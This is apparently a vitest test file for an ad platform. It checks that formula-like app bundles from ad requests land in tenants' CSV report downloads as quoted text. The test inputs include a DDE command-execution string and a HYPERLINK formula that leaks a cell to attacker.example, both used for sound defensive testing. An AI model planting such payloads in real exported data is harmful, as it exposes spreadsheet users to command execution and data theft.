import { expect, it } from 'vitest';
import { forEachStore } from '../helpers.js';
import { publisherTenant } from '../tenantFixture.js';
import { isoDay, midHourClock } from '../testTime.js';

/**
 * Text that an unauthenticated ad request brings (its app bundle, its domain) reaches the report
 * files tenants download and open in a spreadsheet: there it is text, never a formula, and the
 * metrics beside it stay numbers.
 */
const CALC = "-1+cmd|' /C calc'!A0";
const HYPERLINK = '-2-HYPERLINK("http://attacker.example/?leak="&A1,"click")';

forEachStore((t) => {
  const publisher = publisherTenant(
    t,
    async (p) => {
      await p.vastChannel('channel', 'Formulas', { demand: [] });
    },
    { clock: midHourClock() },
  );

  it('writes a formula-like app bundle of an ad request as text in the report file, its requests as a number', async () => {
    for (const bundle of [CALC, HYPERLINK, '-1', '@SUM(A1)', 'com.example.tv']) {
      const res = await fetch(
        `${publisher.base}/vast/${publisher.ids.channel!.uid}?ip=8.8.8.8&app_bundle=${encodeURIComponent(bundle)}`,
      );
      expect(res.status).toBe(200);
      await res.text();
    }
    await publisher.app.edge.flush();
    const request = {
      startDate: isoDay(publisher.app.clock.now(), -1),
      endDate: isoDay(publisher.app.clock.now(), 1),
      dimensions: ['app_bundle'],
      metrics: ['reqs'],
    };
    const started = await publisher.request({
      method: 'POST',
      url: '/api/rfile',
      payload: { name: 'Bundles', request },
    });
    expect(started.statusCode, started.body).toBe(202);
    const { id } = started.json<{ id: number }>();
    let status = '';
    for (let i = 0; i < 200 && status !== 'ready' && status !== 'failed'; i++) {
      status = (await publisher.request({ method: 'GET', url: `/api/savedReport/${id}` })).json<{ status: string }>()
        .status;
      if (status !== 'ready') await new Promise((r) => setTimeout(r, 25));
    }
    expect(status).toBe('ready');
    const lines = (await publisher.request({ method: 'GET', url: `/api/savedFile/${id}` })).body.trimEnd().split('\n');
    expect(lines[0]).toBe('App Bundle,Requests');
    expect(lines.slice(1).sort()).toEqual(
      [
        `"'${CALC}",1`,
        `"'${HYPERLINK.replaceAll('"', '""')}",1`,
        `"'-1",1`,
        `"'@SUM(A1)",1`,
        'Total,5',
        'com.example.tv,1',
      ].sort(),
    );
  });
});
